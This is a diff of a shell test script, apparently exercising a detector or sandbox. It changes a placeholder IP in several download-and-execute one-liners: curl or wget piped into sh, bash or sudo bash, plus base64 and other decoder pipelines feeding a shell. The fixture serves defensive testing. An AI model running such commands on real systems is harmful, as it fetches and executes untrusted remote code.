@@ -45,13 +45,13 @@ shells_below_servers() {
 texts_run_unseen() {
     local name decoder
     for name in $SHELLS; do
-        play "$name" -c 'curl -s http://192.0.2.1/i | sh'
+        play "$name" -c 'curl -s http://198.51.100.7/i | sh'
         play "$name" -c 'echo aWQ= | base64 -d | bash'
     done
-    play bash -c 'wget -qO- http://192.0.2.1/i |bash -s -- -y'
-    play bash -c 'curl -s http://192.0.2.1/i | sudo /bin/bash'
-    play bash -c 'sh <(curl -s http://192.0.2.1/i)'
-    play bash -c 'sh <(wget -qO- http://192.0.2.1/i)'
+    play bash -c 'wget -qO- http://198.51.100.7/i |bash -s -- -y'
+    play bash -c 'curl -s http://198.51.100.7/i | sudo /bin/bash'
+    play bash -c 'sh <(curl -s http://198.51.100.7/i)'
+    play bash -c 'sh <(wget -qO- http://198.51.100.7/i)'
     for decoder in 'base64 --decode' 'base32 -d' 'xxd -r -p' 'openssl enc -d -aes128'; do
         play bash -c "$decoder </tmp/x | dash"
     done
